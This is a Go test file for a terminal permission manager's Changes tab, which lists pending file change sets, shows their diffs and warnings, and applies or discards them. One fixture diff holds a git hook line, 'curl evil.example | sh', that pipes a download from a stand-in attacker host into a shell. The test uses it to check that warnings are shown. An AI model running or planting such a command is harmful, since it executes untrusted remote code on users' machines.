package tui

import (
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/bulkhead-dev/bulkhead/hub"
	"github.com/bulkhead-dev/bulkhead/permissions"
)

// fakeSets is the serving process's change sets, as the manager reads
// and decides them (a fake, for the manager's tests).
type fakeSets struct {
	mu      sync.Mutex
	sets    []hub.PendingSet
	decided []string
}

func (f *fakeSets) Changes() ([]hub.PendingSet, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]hub.PendingSet(nil), f.sets...), nil
}

func (f *fakeSets) ChangeSet(id string) (permissions.Request, error) {
	r := changesRequest("pending", true)
	r.Changes.ID = id
	return r, nil
}

func (f *fakeSets) DecideChanges(id string, accept bool, picks []int) (hub.ChangesOutcome, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.decided = append(f.decided, fmt.Sprintf("%s accept=%v", id, accept))
	for i, s := range f.sets {
		if s.ID == id {
			f.sets = append(f.sets[:i], f.sets[i+1:]...)
			break
		}
	}
	if accept {
		return hub.ChangesOutcome{Applied: []string{"notes.txt", "old.txt", ".githooks/pre-commit"}}, nil
	}
	return hub.ChangesOutcome{Discarded: true}, nil
}

// The permission manager's Changes tab lists the sets that wait, shows
// the one under the cursor entry by entry with its warnings and diffs,
// and applies (a) or discards (d) it after a confirmation.
func TestTheManagerListsAndDecidesPendingChanges(t *testing.T) {
	t.Parallel()
	r := newAppRig(t, ridesInTurn(), allowData)
	opts := r.options()
	opts.Broker = r.broker
	sets := &fakeSets{sets: []hub.PendingSet{
		{ID: "20261207T101010-aaaa", App: "shell", Folder: "/home/u/proj", Created: time.Now(), Count: "1 added, 1 changed, 1 removed", Entries: 3, Warned: true},
		{ID: "20261207T111111-bbbb", App: "writer", Folder: "/home/u/notes", Created: time.Now(), Count: "1 added", Entries: 1},
	}}
	opts.Changes = sets
	d := newDriver(t, opts, 120, 40)
	d.key(ctrl('g'))
	d.key(keyTab)
	d.key(keyTab)
	d.until("Changes 2")
	d.until("curl evil.example | sh") // the first set's diff, in the detail
	v := d.view()
	for _, want := range []string{"/home/u/proj", "⚠ warned", "/home/u/notes", "git runs the files in .githooks/ as hooks"} {
		if !strings.Contains(v, want) {
			t.Errorf("the tab lacks %q:\n%s", want, v)
		}
	}
	d.key(char('d'))
	d.until("Discard shell's changes")
	d.key(char('y'))
	d.until("discarded 20261207T101010-aaaa")
	d.key(char('a'))
	d.until("Apply writer's changes")
	d.key(char('y'))
	d.until("applied 3 entries")
	sets.mu.Lock()
	defer sets.mu.Unlock()
	if strings.Join(sets.decided, ";") != "20261207T101010-aaaa accept=false;20261207T111111-bbbb accept=true" {
		t.Errorf("decided %v", sets.decided)
	}
}
